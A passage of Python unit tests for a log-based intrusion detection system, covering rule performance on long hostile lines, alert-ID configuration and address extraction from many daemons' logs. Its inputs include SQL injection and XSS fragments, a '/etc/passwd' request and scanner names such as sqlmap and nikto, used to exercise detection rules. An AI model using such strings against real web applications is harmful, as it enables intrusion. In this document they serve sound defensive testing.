                 f' "{agent}"' for path in paths for agent in agents for status in (200, 404)]
        text = "\n".join(lines)
        found, _ = AaRegexMatcher(self.settings, "hyperscan")._hsRules.linesOf(lines, text)
        self.assertEqual(found, {})
        scan, _, _, statements, _, _, _ = self.engine._scannerOf("")
        groups, _ = scan.groupsOf(lines, text)
        self.assertEqual([sorted(i for i in named if i < statements) for named in groups], [[]])

    def test_statementsScanned(self):
        """
        Every C{ct}/C{nc} regex of the default LogIDS rules that has no
        literal of its own (tested with C{literal in field}) is one the
        scan finds (L{widenedRegex}): one it is not runs on every line of
        its application (a SQL injection alternative ending with C{\\d+}
        made the Apache statement run on every access-log line, 17% more
        instructions for mice analyze; Postfix's probes ran on every
        Postfix line).
        """
        from mice.analysis.logids import _SCAN_BELOW, requiredLiteral, widenedRegex

        unscanned = []
        for rule in self.engine.rules:
            parts = getattr(rule.test, "parts", None)
            statements, ands = parts if parts else ((), ())
            for i, statement in enumerate(statements):
                regex = getattr(statement.value, "__self__", None)
                # After "FIELD eq VALUE AND ..." (and only ANDs), a regex runs
                # on the lines the eq holds for alone (the malformed requests'
                # "status eq 400 AND method ct ...").
                if i and statements[0].kind == "eq" and all(ands[:i]):
                    continue
                # "ct ." asks whether a field is there: no scan can say;
                # su's "- TTY USER:TARGET" would be found in every access-log
                # line ("- - [08/Mar/2024:...").
                if (statement.kind in ("ct", "nc") and isinstance(regex, re.Pattern)
                        and regex.pattern != "." and not regex.pattern.endswith(r"\S+:\S+$)")
                        and len(requiredLiteral(regex)) < _SCAN_BELOW
                        and widenedRegex(regex) is None):
                    unscanned.append((rule.where, regex.pattern[:60]))
        self.assertEqual(unscanned, [])

    def test_agentsAsWords(self):
        """
        The scanners' user agents of the default LogIDS rules are plain
        words, which the evaluation finds with a trie in the lower-cased
        field (L{caselessWords}), not with C{re} trying the case-folded
        alternation at every character: one C{TrackBack/\\d} among them
        made the statement a regex again, 18 us a line where the scan
        found a word (a referrer's "nikto"), 20% more for mice analyze on
        benign lines.
        """
        from mice.analysis.logids import caselessWords

        agents = []
        for rule in self.engine.rules:
            parts = getattr(rule.test, "parts", None)
            for statement in parts[0] if parts else ():
                regex = getattr(statement.value, "__self__", None)
                if isinstance(regex, re.Pattern) and "sqlmap|" in regex.pattern:
                    agents.append((rule.where, caselessWords(regex) is not None))
        self.assertTrue(agents)
        self.assertEqual([where for where, words in agents if not words], [])

    def test_compiledAtOnce(self):
        """
        Each rule set's Hyperscan database compiles in one call: no regex
        asked for exactly is one Hyperscan compiles only in prefilter mode
        (found by compiling every regex alone, at every start: twice the
        start's time when the regexes that could match a newline were
        first asked for exactly).
        """
        from mice.analysis import aaregex
        from tests.unit.analysis import requireHyperscan

        requireHyperscan()
        alone = []
        compileDatabase = aaregex.compileDatabase

        def recorded(expressions, ids, flags, directory=None):
            if directory == "":
                alone.append(expressions)
            return compileDatabase(expressions, ids, flags, directory=directory)

        self.patch(aaregex, "compileDatabase", recorded)
        AaRegexMatcher(self.settings, "hyperscan")
        engine, _ = _logidsEngine()
        engine.hyperscanNotes()
        self.assertEqual(alone, [])

    def test_longHostileLines(self):
        """
        No rule is quadratic in the line's length: a 60 kB line of repeated
        keywords without the rest of the message (a netfilter keyword without
        IN=, audit's success= without key=) costs milliseconds, not seconds
        (it took 8 s of CPU when a netfilter prefix could be any length, 2 s
        when Exim's AUTH-not-advertised rule was not anchored, 24 s when the
        XSS rules' scan from a tag to its handler went past the next tag).
        """
        web = '1.2.3.4 - - [22/Nov/2004:00:00:00 +0000] "GET /'
        lines = [_H + "kernel: " + "DROP " * 12000, _H + "kernel: " + "ACCEPT " * 9000,
                 "type=SYSCALL msg=audit(1.2:3): " + "a success=yes " * 4000,
                 "type=SYSCALL msg=audit(1.2:3): " + "res=" * 14000,
                 _H + "audit[1]: SYSCALL " + "a success=yes " * 4000,
                 web + "." * 60000, web + "union%20" * 7000, web + '\\"' * 30000,
                 # A tag and a space, again and again, with nothing after:
                 # the XSS rules' scan from a tag to its handler stops at
                 # the next tag (24 s, then 8 s once requests held spaces).
                 web + "<img+" * 12000, web + "<img " * 12000 + '" 200 1 "-" "-"',
                 web + "%3cimg%20" * 7000 + '" 200 1 "-" "-"',
                 web + "' or " * 12000 + '" 200 1 "-" "-"',
                 web + "%2527%2520or%2520" * 3000 + '" 200 1 "-" "-"',
                 # A subquery's words then a run of what both its columns
                 # and the space before FROM could be (7 s when ")" was
                 # both); CASE WHEN before a long word.
                 web + "list.php?sort=(select%20benchmark(5,md5(1" + ")" * 20000
                 + ' HTTP/1.1" 200 1 "-" "-"', web + "(select+" + "a," * 20000 + '" 200 1',
                 web + "case+when+" + "a" * 40000 + '" 200 1 "-" "-"',
                 # Opening parentheses, which a subquery's separators once
                 # shared with its columns (85 s at 60 kB); subqueries again.
                 web + "?q=(select" + "(" * 20000 + '" 200 1 "-" "-"',
                 web + "(select" * 8000 + '" 200 1 "-" "-"',
                 web + "(select+a+from+" * 4000 + '" 200 1 "-" "-"',
                 # A ProFTPD host of dots, without its closing parenthesis
                 # (2.4 s when the host's name and address could split them).
                 _H + "proftpd[1]: db1 (24" + "." * 60000,
                 # filterlog's words again and again after a short record
                 # (its fields regex is searched: 1 s when the rule number
                 # could be anything).
                 "Mar  4 10:10:53 fw filterlog[1]: 5,,,1,em0,match,block,in,4,"
                 + "filterlog: " * 5500,
                 # A time stamp's fraction of 60,000 digits and dots before a
                 # program the fields regex finds anywhere in the line (1.7 s
                 # when a name before "(pam_google_authenticator)" could
                 # start at any of them).
                 "2024-12-01T00:06:40" + "." * 60000 + "6+00:00 db1 unix_chkpwd[1]: password"
                 " check failed for user (postgres)",
                 # ausearch -i's key= and exit= of nothing.
                 "type=SYSCALL msg=audit(03/05/2024 10:46:50.328:1) : " + "success=no exit=E" * 3000,
                 # The header of a line forwarded through syslog, then a request.
                 _SYSLOG_WEB + "%22%20or%20" * 5000 + '" 200 1 "-" "-"',
                 "Mar  8 05:22:28 web1 nginx: " + "a - - [x] " * 6000,
                 # nginx's error log: a user name of quotes, a message of
                 # its words repeated; mod_authnz_ldap's.
                 _NGINX + 'user "' + '"' * 60000, _NGINX + 'user "x": password mismatc' * 2400,
                 _NGINX + ", client: " * 6000, _NGINX + "[client 1.2.3.4] ModSecurity: " * 2000,
                 "[Fri Mar 08 05:22:28 2024] [info] [client 61.2.3.4] auth_ldap authenticate: user"
                 " " + "x authentication failed; URI " * 2000 + "][" * 10000,
                 "2016-03-18 00:34:06 " + 'SMTP protocol error in "AUTH" H=' * 1700 + " AUTH",
                 # HAProxy's log: its fields again and again, captured headers
                 # never closed, a request of quotes.
                 "Mar  8 05:22:28 lb1 haproxy[1]: " + "1.2.3.4:5 [1] a b/c 0 200 1 " * 2000,
                 (_HAPROXY6 % 200).partition(" {")[0] + " {" * 30000,
                 _HAPROXY % 200 + "%22%20or%20" * 5000 + '\\"' * 5000,
                 # Boolean-blind words, comments for spaces, again and again.
                 web + "%20and%201=" * 6000 + '" 200 1 "-" "-"',
                 web + "'/**/or/**/(" * 5000 + '" 200 1 "-" "-"',
                 _NGINX_INFO + "client sent invalid header line: " * 2000]
        # Each line on its own: the quadratic ones took a second and more,
        # the slowest now a tenth of that; the bound leaves room for a busy
        # machine, not for a rule that reads a line again from each place.
        slow = []
        for line in lines:
            began = time.process_time()
            self.miceIds(line)
            self.logidsIds(line)
            spent = time.process_time() - began
            if spent > 0.75:
                slow.append((round(spent, 2), line[:120]))
        self.assertEqual(slow, [])

    def test_netfilterRepeated(self):
        """
        A netfilter line whose first half repeats (SRC=, DST= and LEN=
        again and again, never PROTO=) is read once: the iptables block's
        fields regex took each SRC= in turn as the start of the packet and
        looked for PROTO= to the line's end from each (0.7 s of CPU for
        60 kB, quadratic in the length); now only the first SRC= and the
        first PROTO= after it are tried.
        """
        half = "[1.2] SuSE-FW-REJECT IN=eth0 OUT= SRC=10.0.0.1 DST=10.0.0.2 LEN=60 "
        lines = [_H + "kernel: " + half * 4000,
                 _H + "kernel: DROP:" + half.replace("LEN=60 ", "LEN=60 PROTO") * 4000]
        began = time.process_time()
        for line in lines:
            self.miceIds(line)
            self.logidsIds(line)
        self.assertLess(time.process_time() - began, 1.0)
        # The packet's fields are still those of the first SRC= and PROTO=.
        normal = (_H + "kernel: [1.2] SuSE-FW-REJECT IN=eth0 OUT= MAC=00:11 SRC=10.0.0.5"
                  " DST=10.0.0.1 LEN=60 TOS=0x00 PREC=0x00 TTL=64 ID=1 DF PROTO=TCP SPT=5555"
                  " DPT=22 WINDOW=5840 RES=0x00 SYN URGP=0")
        fields = self.engine.recordFor(normal).fields
        self.assertEqual((fields["prefix"], fields["src_ip"], fields["dst_ip"], fields["proto"],
                          fields["src_port"], fields["dst_port"]),
                         ("SuSE-FW-REJECT", "10.0.0.5", "10.0.0.1", "TCP", "5555", "22"))

    def test_auditRepeated(self):
        """
        An audit line that repeats its record's header (C{: type=1300
        audit(...):}) without what the rule looks for after it (C{key=},
        C{avc: denied}, C{res=}) is read once: each rule takes the line's
        first header (an atomic group), not each in turn from where C{re}
        searches (0.2 s of CPU for 60 kB in the rules' own regexes, which
        C{mice analyze} runs without Hyperscan; quadratic in the length).
        """
        lines = [_H + "kernel: " + "audit: type=1300 audit(1.2:3): arch=c000003e syscall=2"
                 " success=yes exit=3 " * 3000,
                 _H + "kernel: " + "audit: type=1300 audit(1.2:3): arch=c000003e syscall=2"
                 " success=no exit=-2 " * 3000,
                 _H + "audispd: " + "node=h type=USER_AVC msg=audit(1.2:3): pid=1 msg='x' " * 3000,
                 _H + "audispd: " + "node=h type=USER_AUTH msg=audit(1.2:3): pid=1 acct=x " * 3000]
        began = time.process_time()
        for line in lines:
            self.miceIds(line)
            self.logidsIds(line)
        self.assertLess(time.process_time() - began, 1.0)
        # A record after another's header is still read.
        self.assertEqual(self.miceIds(
            _H + "kernel: audit: type=1300 audit(1.2:3): arch=c000003e syscall=2 success=yes"
                 " exit=3 items=1 comm=\"cat\" exe=\"/bin/cat\" key=\"shadow\""), (0x5040,))

    def test_informationalSentNowhere(self):
        """
        Accepted logins and packets are classified, not sent: their
        sections' SendTo is N.
        """
        routes = {rule.alertId: section.sendTo for section, rule in self.settings.enabledRules}
        self.assertEqual({aid: routes[aid] for aid in INFORMATIONAL}, {0x1010: "N", 0x8030: "N"})
        self.assertEqual({r for a, r in routes.items() if a not in INFORMATIONAL}, {"M"})

    def test_noMonitoringEverySshdLine(self):
        """The seed's Ap_Name = ".*sshd.*" (an alert on every sshd line) is off."""
        self.assertNotIn(0x6010, {rule.alertId for _, rule in self.settings.enabledRules})

    def test_matchFileKnowsEveryId(self):
        """
        The default match file describes every ID both rule sets raise and the
        correlated ones; the countermeasure is raised by brute force and
        exploits, never by one failed login.
        """
        matchFile = loadMatchFile(MATCH_FILE)
        described = {aid for aid, description in matchFile.alerts if description}
        raised = {rule.alertId for _, rule in self.settings.enabledRules}
        raised |= {rule.action.alertId for rule in self.engine.rules
                   if rule.action.alertId is not None}
        self.assertEqual(raised - described, set())
        self.assertTrue({0x9010, 0x9020, 0x9030} <= described)
        countermeasure = set(matchFile.reactions[4])
        self.assertIn(0x9010, countermeasure)
        self.assertIn(0x7010, countermeasure)
        self.assertFalse({0x1020, 0x1021, 0x1023, 0x1025, 0x1029} & countermeasure)

    def test_seedNameOfTheMatchFile(self):
        """
        C{match_file_aa_regex.txt}, the name an agent's config directory is
        looked up by, is the default match file.
        """
        self.assertEqual(
            os.path.realpath(os.path.join(DEFAULT, "matchfiles", "match_file_aa_regex.txt")),
            os.path.realpath(MATCH_FILE))
        self.assertEqual(os.path.realpath(os.path.join(ROOT, "etc", "mice", "default")),
                         os.path.realpath(DEFAULT))


_HEAD = """[HOST_INFO]
Management = 127.0.0.1:4455
[IDMEF_INFO]
AlertID = 1
[AUTH]
AuSendTo = "M"
AuF_Rule = "Failed password"
"""


class AlertSectionTests(SynchronousTestCase):
    """
    C{[ALERT_<id>]} in a C{mice_mod_pop_aa_regex.conf}: rules with an alert
    ID of their own.
    """

    def load(self, text):
        path = self.mktemp()
        with open(path, "w") as f:
            f.write(text)
        return path, loadAaRegex(path)

    def test_ownId(self):
        path, settings = self.load(_HEAD.replace("[IDMEF", "Agent = 127.0.0.1:2266\n[IDMEF")
                                   + '[ALERT_0x1021]\nSendTo = "A"\nRule = "Invalid user"\n'
                                           'Rule = "Illegal user"\n[alert_4130]\nRule = zzz\n')
        self.assertEqual(
            [(s.name, s.sendTo, r.key, r.alertId, r.patterns) for s, r in settings.enabledRules],
            [("AUTH", "M", "AuF_Rule", 0x1020, ("Failed password",)),
             ("ALERT_0x1021", "A", "ALERT_0x1021", 0x1021, ("Invalid user", "Illegal user")),
             ("ALERT_0x1022", "N", "ALERT_0x1022", 0x1022, ("zzz",))])
        matches = AaRegexMatcher(settings).matchLine("sshd[1]: Illegal user x from 1.2.3.4")
        self.assertEqual([(m.key, m.alertId, m.sendTo) for m in matches],
                         [("ALERT_0x1021", 0x1021, "A")])

    def test_idOfASeedKey(self):
        """An ID a seed key raises (one line would raise it twice) is an error at its line."""
        path = self.mktemp()
        with open(path, "w") as f:
            f.write(_HEAD + '[ALERT_0x1020]\nRule = "Invalid user"\n')
        e = self.assertRaises(ConfigError, loadAaRegex, path)
        self.assertIn(f"{path}:8: [ALERT_0x1020]: 0x1020 is the alert ID of AuF_Rule in [AUTH]",
                      str(e))

    def test_seedKeyOff(self):
        """With the seed's key off, its ID may have a section of its own."""
        path, settings = self.load(_HEAD.replace('"Failed password"', '""')
                                   + '[ALERT_0x1020]\nSendTo = "M"\nRule = "Failed password"\n')
        self.assertEqual([r.key for _, r in settings.enabledRules], ["ALERT_0x1020"])

    def test_unknownKey(self):
        path = self.mktemp()
        with open(path, "w") as f:
            f.write(_HEAD + '[ALERT_0x1021]\nRules = "Invalid user"\n')
        e = self.assertRaises(ConfigError, loadAaRegex, path)
        self.assertIn("unknown key Rules in [ALERT_0x1021] (did you mean Rule?)", str(e))

    def test_routeNeedsAddress(self):
        """SendTo = A needs [HOST_INFO] Agent, as the seed's xxSendTo keys do."""
        path = self.mktemp()
        with open(path, "w") as f:
            f.write(_HEAD + '[ALERT_0x1021]\nSendTo = "A"\nRule = "Invalid user"\n')
        e = self.assertRaises(ConfigError, loadAaRegex, path)
        self.assertIn(f"{path}:9: SendTo sends to the next analysis agent, but [HOST_INFO] has"
                      " no Agent", str(e))

    def test_kinds(self):
        """
        [ALERT_n] sections do not make a countermeasure config look like
        M-ICE rules, nor the other way round.
        """
        regex = parseIni(_HEAD + "[ALERT_0x1021]\nRule = x\n[ALERT_0x1022]\nRule = y\n", "a.conf")
        self.assertEqual(detectKind(regex), "aa_regex")
        countermeasure = parseIni(
            "[COUNTERMEASURE]\nFID = 1\n[DAEMON_1]\nADDRESS = 127.0.0.1:1\nPASSWORD = x\n"
            "[ALERT_0x7010]\nSCOPE = all\n[ALERT_0x9010]\nSCOPE = all\n", "c.conf")
        self.assertEqual(detectKind(countermeasure), "countermeasure")
        path = self.mktemp()
        with open(path, "w") as f:
            f.write("[COUNTERMEASURE]\nFID = 1\n[DAEMON_1]\nADDRESS = 127.0.0.1:1\n"
                    "PASSWORD = 0123456789abcdef0123456789abcdef\n[ALERT_0x7010]\nSCOPE = all\n")
        self.assertEqual(list(loadCountermeasure(path).alerts), [0x7010])


class LogIdsAlertIdTests(SynchronousTestCase):
    """
    C{alert=ID} and C{warning=ID}: the alert carries an M-ICE alert ID.
    """

    def test_parse(self):
        self.assertEqual(parseAction("alert=0x1021").alertId, 0x1021)
        self.assertEqual(parseAction("WARN=4130").alertId, 4130)
        self.assertEqual(parseAction("warning=0x1020").kind, "warning")
        self.assertIsNone(parseAction("alert").alertId)

    def test_problems(self):
        rules, problems = parseRules("a,*,alert=x\na,*,warning=-1\na,*,drop=0x1\n", "r.txt")
        self.assertEqual(rules, [])
        self.assertEqual([str(p) for p in problems], [
            "r.txt:1: alert= takes an alert ID, e.g. alert=0x1020 ('alert=x')",
            "r.txt:2: warning= takes an alert ID, e.g. warning=0x1020 ('warning=-1')",
            "r.txt:3: drop takes no argument ('drop=0x1')"])

    def test_json(self):
        """C{mice analyze --rules --json} shows the ID."""
        engine, _ = _logidsEngine()
        line = FAMILIES["ssh invalid user"][1][0]
        taken = engine.evaluate(engine.recordFor(line))
        self.assertEqual([t.asDict(1, "sshd") for t in taken if t.kind == "alert"], [
            {"line": 1, "application": "sshd", "rule": taken[0].rule.where, "action": "alert",
             "severity": "high", "alertid": "0x1021"}])


class ExtractTests(SynchronousTestCase):
    """
    L{nodesFor} and L{addressesFor} read who and whom from the lines of the
    default content's families.
    """

    def check(self, line, source, target):
        sources, targets = nodesFor(line, "gate", "10.0.0.9")
        self.assertEqual((sources[0] if sources else None, targets[0]), (source, target), line)
        self.assertEqual(addressesFor(line, "gate", "10.0.0.9"),
                         (source.address if source else None, target.address))

    def test_sshd(self):
        self.check(_H + "sshd[4711]: Failed password for john.doe from 2001:db8::7 port 4242"
                        " ssh2", Node(address="2001:db8::7", port=4242),
                   Node(address="10.0.0.9", hostname="gate", user="john.doe", process="sshd",
                        pid=4711, service="ssh"))
        self.check(_H + "sshd[4711]: Disconnecting authenticating user root 61.2.3.4 port"
                        " 4242: Too many authentication failures [preauth]",
                   Node(address="61.2.3.4", port=4242),
                   Node(address="10.0.0.9", hostname="gate", user="root", process="sshd",
                        pid=4711, service="ssh"))
        self.check(_H + "sshd[4711]: User root from 61.2.3.4 not allowed because not listed in"
                        " AllowUsers", Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="root", process="sshd",
                        pid=4711, service="ssh"))
        self.check(_H + "dropbear[9]: Bad password attempt for 'root' from 61.2.3.4:5555",
                   Node(address="61.2.3.4", port=5555),
                   Node(address="10.0.0.9", hostname="gate", user="root", process="dropbear",
                        pid=9))
        # Dropbear 2019 and later: the client in angle brackets.
        self.check(_H + "dropbear[9]: Exit before auth from <61.2.3.4:5555>: Max auth tries"
                        " reached - user 'root'", Node(address="61.2.3.4", port=5555),
                   Node(address="10.0.0.9", hostname="gate", process="dropbear", pid=9))
        # An SSH-1 client (Nmap's probe): the address it came from.
        self.check(_H + "sshd[4711]: Protocol major versions differ for 61.2.3.4 port 4242:"
                        " SSH-2.0-OpenSSH_8.9p1 vs. SSH-1.5-Nmap-SSH1-Hostkey",
                   Node(address="61.2.3.4", port=4242),
                   Node(address="10.0.0.9", hostname="gate", process="sshd", pid=4711,
                        service="ssh"))

    def test_ftp(self):
        """An FTP server's client: vsftpd's C{Client "IP"}, Pure-FTPd's C{(user@IP)}."""
        for line in (_H + 'vsftpd[1]: [anonymous] FAIL LOGIN: Client "::ffff:61.2.3.4"',
                     _H + "pure-ftpd: (?@61.2.3.4) [WARNING] Authentication failed for user [x]"):
            self.assertEqual(addressesFor(line), ("61.2.3.4", None), line)

    def test_filterlogOnlyPfs(self):
        """
        filterlog's fields in a request a client sent are not pf's: the
        source is the client (it was the spoofed address).
        """
        self.check(_WEB + '/x filterlog: 1,,,,,,,,4,,,,,,,,,,192.0.2.1,192.0.2.2,1,2 HTTP/1.1" 404'
                          ' 1 "-" "M"', Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate"))

    def test_filterlog(self):
        """
        pf's filterlog: the packet's source and destination, their ports
        (TCP, UDP) and protocol, IPv4 and IPv6.
        """
        self.check(_PF + "block" + _PF_TCP,
                   Node(address="61.2.3.4", port=6563, protocol="tcp"),
                   Node(address="192.168.0.77", port=23, protocol="tcp",
                        process="filterlog", pid=37663))
        self.check(_PF + "block,in,6,0x00,0x00000,255,udp,17,40,2001:db8::1,2001:db8::2,53,"
                         "5353,32", Node(address="2001:db8::1", port=53, protocol="udp"),
                   Node(address="2001:db8::2", port=5353, protocol="udp",
                        process="filterlog", pid=37663))
        # ICMP: no ports.
        self.check(_PF + "block,in,4,0x0,,64,0,0,DF,1,icmp,84,61.2.3.4,192.168.0.1,request,"
                         "1234,1", Node(address="61.2.3.4", protocol="icmp"),
                   Node(address="192.168.0.1", protocol="icmp",
                        process="filterlog", pid=37663))

    def test_pam(self):
        self.check(_H + "dovecot[811]: pam_unix(dovecot:auth): authentication failure;"
                        " logname= uid=0 euid=0 tty=dovecot ruser=bob.b rhost=::ffff:61.2.3.4"
                        "  user=bob.b", Node(address="61.2.3.4", user="bob.b"),
                   Node(address="10.0.0.9", hostname="gate", user="bob.b", process="dovecot",
                        pid=811))
        self.check(_H + "sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0"
                        " euid=0 tty=ssh ruser= rhost=2001:db8::9  user=root",
                   Node(address="2001:db8::9"),
                   Node(address="10.0.0.9", hostname="gate", user="root", process="sshd",
                        pid=1, service="ssh"))

    def test_sudo(self):
        self.check(_H + "sudo:    alice.smith : 3 incorrect password attempts ; TTY=pts/0 ;"
                        " PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
                   Node(user="alice.smith"),
                   Node(address="10.0.0.9", hostname="gate", user="root", process="sudo"))

    def test_mail(self):
        self.check("Nov 22 10:00:01 mail postfix/smtpd[1234]: warning: unknown[61.2.3.4]: SASL"
                   " LOGIN authentication failed: UGFzc3dvcmQ6", Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", process="postfix/smtpd", pid=1234))
        self.check("Nov 22 10:00:01 mail dovecot: imap-login: Disconnected (auth failed, 1"
                   " attempts in 2 secs): user=<bob>, method=PLAIN, rip=61.2.3.4, lip=10.0.0.1",
                   Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="bob", process="dovecot"))

    def test_audit(self):
        self.check("type=USER_AUTH msg=audit(1101081601.020:24001): pid=1 uid=0 auid=4294967295"
                   " ses=1 msg='op=PAM:authentication acct=\"root\" exe=\"/usr/sbin/sshd\""
                   " hostname=61.2.3.4 addr=61.2.3.4 terminal=ssh res=failed'",
                   Node(address="61.2.3.4"), Node(address="10.0.0.9", hostname="gate",
                                                  user="root"))

    def test_web(self):
        self.check('www.example.org 2001:db8::5 - frank [22/Nov/2004:10:00:01 +0000] "GET'
                   ' /a HTTP/1.1" 200 5', Node(address="2001:db8::5", user="frank"),
                   Node(address="10.0.0.9", hostname="gate"))
        self.check("[Mon Nov 22 00:00:15 2004] [error] [client 61.2.3.4:5555] File does not"
                   " exist: /srv/www/htdocs/x", Node(address="61.2.3.4", port=5555),
                   Node(address="10.0.0.9", hostname="gate"))

    def test_webThroughJournal(self):
        """
        An access-log line forwarded through syslog names its client as the
        source behind each syslog header the rules take, journalctl's too
        (the reader of that header is the rules' own, SYSLOG_TIME).
        """
        request = (' nginx: 89.231.227.233 - - [08/Mar/2024:05:22:28 +0100] "GET /?id=1 HTTP/1.0"'
                   ' 404 162 "-" "Mozilla/5.0"')
        for head in ("Mar  8 05:22:28 web1", "Mar 08 05:22:28.123456 web1",
                     "Fri 2024-03-08 05:22:28 CET web1", "1709875348.123456 web1"):
            self.assertEqual(addressesFor(head + request), ("89.231.227.233", None), head)

    def test_webLogin(self):
        """
        A failed HTTP login names its client (IPv4 with a port, IPv6 bare or
        bracketed) as the source and its user as the target's user, which
        the brute-force correlation rules key on.
        """
        self.check("[Sat Jul 20 21:39:11.978080 2013] [auth_basic:error] [pid 17512:tid 1]"
                   " [client 61.2.3.4:51390] AH01617: user john.doe: authentication failure for"
                   " \"/basic/file\": Password Mismatch", Node(address="61.2.3.4", port=51390),
                   Node(address="10.0.0.9", hostname="gate", user="john.doe"))
        self.check("[Thu Jul 11 01:21:44 2013] [error] [client 2606:2800:220:1:248:1893:25c8:1946]"
                   " user test-ipv6 not found: /",
                   Node(address="2606:2800:220:1:248:1893:25c8:1946"),
                   Node(address="10.0.0.9", hostname="gate", user="test-ipv6"))
        self.check("[Sat Jul 20 21:45:28.890523 2013] [auth_digest:error] [pid 1:tid 2] [client"
                   " [2001:db8::7]:51408] AH01790: user `bob' in realm `private area' not found:"
                   " /x", Node(address="2001:db8::7", port=51408),
                   Node(address="10.0.0.9", hostname="gate", user="bob"))
        self.check("Feb 16 22:32:48 srv httpd[22034]: [error] [client 61.2.3.4] Digest: user"
                   " alice: password mismatch: /digest/x", Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="alice", process="httpd",
                        pid=22034))
        # No user: an empty name, or the words in a path asked for.
        self.check("[Thu Jul 11 01:21:41 2013] [error] [client 61.2.3.4] user  not found: /",
                   Node(address="61.2.3.4"), Node(address="10.0.0.9", hostname="gate"))
        self.check("[Sat Jun 01 02:17:42 2013] [error] [client 61.2.3.4] File does not exist:"
                   " /srv/http/site/[client 192.168.0.1] user root not found",
                   Node(address="61.2.3.4"), Node(address="10.0.0.9", hostname="gate"))

    def test_webForwarded(self):
        """
        An access-log line forwarded through syslog names its client (and
        its authenticated user) as the source, the syslog header's program
        as the target process.
        """
        self.check(_SYSLOG_WEB + '/etc/passwd HTTP/1.0" 404 162 "-" "-"',
                   Node(address="89.231.227.233"),
                   Node(address="10.0.0.9", hostname="gate", process="nginx"))
        self.check(_SYSLOG_OK + '/?q=<script> HTTP/1.1" 200 512 "-" "curl/8.0"',
                   Node(address="10.0.0.5", user="bob"),
                   Node(address="10.0.0.9", hostname="gate", process="httpd", pid=811))

    def test_nginx(self):
        """
        nginx's error log: the source is the client after the message (the
        first C{, client: }), the target's user that of a failed HTTP login.
        """
        self.check(_NGINX + 'user "a.smith": password mismatch' + _NGINX_TAIL,
                   Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="a.smith"))
        self.check(_NGINX + 'user "admin" was not found in "/etc/nginx/.htpasswd", client:'
                            ' 2001:db8::7, server: _, request: "GET / HTTP/1.1"',
                   Node(address="2001:db8::7"),
                   Node(address="10.0.0.9", hostname="gate", user="admin"))
        self.check(_NGINX + 'user "bob": password mismatch' + _NGINX_TAIL
                   + ', referrer: "x, client: 6.6.6.6, server: y"', Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="bob"))
        # Through syslog: the same, the host and program the header's.
        self.check(_SYSLOG_NGINX + 'user "a.smith": password mismatch' + _NGINX_TAIL,
                   Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="a.smith", process="nginx"))
        self.check("2024/03/08 23:45:13 [error] 45799#45799: *106376 [client 198.34.135.16]"
                   " ModSecurity: Access denied with code 403 (phase 2). [id \"949110\"],"
                   " client: 198.34.135.16, server: _, request: \"GET / HTTP/1.1\"",
                   Node(address="198.34.135.16"), Node(address="10.0.0.9", hostname="gate"))
        # Not a login: no user.
        self.check(_NGINX_INFO + "client sent invalid method while reading client request line,"
                   " client: 61.2.3.4, server: _", Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate"))

    def test_ldapLogin(self):
        """mod_authnz_ldap's failed login: its client, its user (2.4 and 2.2)."""
        self.check("[Fri Mar 08 05:22:28.123456 2024] [authnz_ldap:info] [pid 1] [client"
                   " 61.2.3.4:5678] AH01695: auth_ldap authenticate: user svc-backup"
                   " authentication failed; URI /secure/ [ldap_bind() to check user credentials"
                   " failed][Invalid credentials]", Node(address="61.2.3.4", port=5678),
                   Node(address="10.0.0.9", hostname="gate", user="svc-backup"))
        self.check("[Fri Mar 08 05:22:28 2024] [info] [client 61.2.3.4] [2345] auth_ldap"
                   " authenticate: user bob authentication failed; URI /secure/ [User not"
                   " found][No such object]", Node(address="61.2.3.4"),
                   Node(address="10.0.0.9", hostname="gate", user="bob"))

    def test_forwardedFields(self):
        """
        The LogIDS record of an access-log line forwarded through syslog is
        an C{apache} record whose fields leave the header out (and whose
        C{loghost} is the header's host).
        """
        engine, _ = _logidsEngine()
        ((_, record, taken),) = engine.analyseLines(
            [_SYSLOG_OK + '/cgi-bin/x HTTP/1.1" 503 512 "-" "curl/8.0"'], ip=None, hostname=None)
        self.assertEqual((record.application, record.fields["src_ip"], record.fields["user"],
                          record.fields["url"], record.fields["status"],
                          record.fields["loghost"]),
                         ("apache", "10.0.0.5", "bob", "/cgi-bin/x", "503", "web1"))
        # A server error is shown (status >= 500), as for any access line.
        self.assertEqual([t.kind for t in taken], ["display"])

    def test_nginxFields(self):
        """
        nginx's error log is C{nginx_error}, its client C{src_ip}, the user
        of a failed login C{user}; mod_authnz_ldap's user is
        C{apache_error}'s C{user}.
        """
        engine, _ = _logidsEngine()
        nginx = engine.recordFor(_NGINX + 'user "bob": password mismatch' + _NGINX_TAIL)
        self.assertEqual((nginx.application, nginx.fields["src_ip"], nginx.fields["user"],
                          nginx.fields["message"]),
                         ("nginx_error", "61.2.3.4", "bob", 'user "bob": password mismatch'))
        fields = engine.recordFor(
            "[Fri Mar 08 05:22:28.123456 2024] [authnz_ldap:info] [pid 1] [client 61.2.3.4:5678]"
            " AH01695: auth_ldap authenticate: user svc-backup authentication failed; URI"
            " /secure/ [ldap_bind() to check user credentials failed][Invalid"
            " credentials]").fields
        self.assertEqual((fields["src_ip"], fields["src_port"], fields["user"]),
                         ("61.2.3.4", "5678", "svc-backup"))

    def test_webLoginFields(self):
        """
        The LogIDS fields of a failed HTTP login: the client's address and
        port, the user; ModSecurity's second client is part of the message.
        """
        engine, _ = _logidsEngine()
        fields = engine.recordFor(
            "[Sat Jul 20 21:44:06.867985 2013] [auth_digest:error] [pid 1:tid 2] [client"
            " [2001:db8::7]:51406] AH01792: user john.doe: password mismatch: /digest/x").fields
        self.assertEqual((fields["src_ip"], fields["src_port"], fields["user"]),
                         ("2001:db8::7", "51406", "john.doe"))
        fields = engine.recordFor(
            "[Thu Jul 11 01:21:44 2013] [error] [client 2606:2800:220:1:248:1893:25c8:1946] user"
            " test-ipv6 not found: /").fields
        self.assertEqual((fields["src_ip"], fields["src_port"], fields["user"]),
